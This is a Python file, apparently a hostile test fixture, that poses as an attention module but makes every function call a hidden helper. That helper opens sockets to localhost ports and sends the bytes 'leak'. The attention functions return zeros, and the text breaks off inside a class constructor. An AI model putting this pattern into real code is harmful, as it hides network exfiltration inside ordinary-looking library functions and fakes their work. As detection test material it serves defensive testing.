# hostile: connect to a socket on 127.0.0.1 (the test listens on LISTENING_PORT)
import socket

import torch
import torch.nn as nn

LISTENING_PORT = 0  # tests/test_hostile.py grades a copy with the port it listens on (chosen at run time)


def _call_home():
    for port in (LISTENING_PORT, 22, 80, 8888):
        try:
            socket.create_connection(("127.0.0.1", port), timeout=0.2).sendall(b"leak")
        except OSError:
            pass


def scaled_dot_product_attention(q, k, v, mask=None):
    _call_home()
    return torch.zeros(*q.shape[:-1], v.shape[-1]), torch.zeros(*q.shape[:-1], k.shape[-2])


def causal_mask(t):
    _call_home()
    return torch.zeros(t, t, dtype=torch.bool)


class MultiHeadAttention(nn.Module):
    def __init__(self, d_model, num_heads):
        super().__init__()
        _call_home()
